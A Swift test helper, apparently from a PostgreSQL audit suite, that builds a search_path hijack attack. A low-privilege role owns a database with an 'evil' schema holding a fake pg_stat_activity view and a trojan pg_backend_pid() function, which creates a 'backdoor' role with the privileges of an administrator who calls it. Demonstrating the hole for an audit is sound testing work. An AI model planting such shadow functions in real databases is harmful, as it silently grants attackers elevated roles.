public import Capabilities

extension PostgresServer {
  /// The audit's demonstration: a role that owns a database with a false `pg_stat_activity`, and a false `pg_backend_pid()`
  /// that makes the role `backdoor_ROLE` with the rights of whoever calls it; and an administrator to walk into it.
  public func preparedStage(_ connector: any SQLConnector) async throws -> (role: SQLLogin, rotator: SQLLogin)
  {
    var role = try await makeRole()
    let rotator = try await makeRole("LOGIN CREATEROLE")
    try await sql("GRANT pg_signal_backend, pg_read_all_stats TO \(rotator.user)")
    role.database = "db_" + role.user
    try await sql("CREATE DATABASE \(role.database) OWNER \(role.user)")
    let own = try await connector.connect(role)
    for statement in [
      "CREATE SCHEMA evil", "GRANT USAGE ON SCHEMA evil TO PUBLIC",
      """
      CREATE VIEW evil.pg_stat_activity AS SELECT 1::pg_catalog.int4 AS pid, ''::pg_catalog.name AS usename,
        1::pg_catalog.oid AS usesysid, pg_catalog.now() AS backend_start WHERE false
      """,
      """
      CREATE FUNCTION evil.pg_backend_pid() RETURNS pg_catalog.int4 LANGUAGE plpgsql AS
      $$ BEGIN EXECUTE 'CREATE ROLE backdoor_\(role.user) CREATEROLE'; RETURN 1; END $$
      """,
      "ALTER DATABASE \(role.database) SET search_path = evil, pg_catalog",
    ] { _ = try await own.execute(statement, [], under: .forTests()) }
    await own.close()
    return (role, rotator)
  }
}
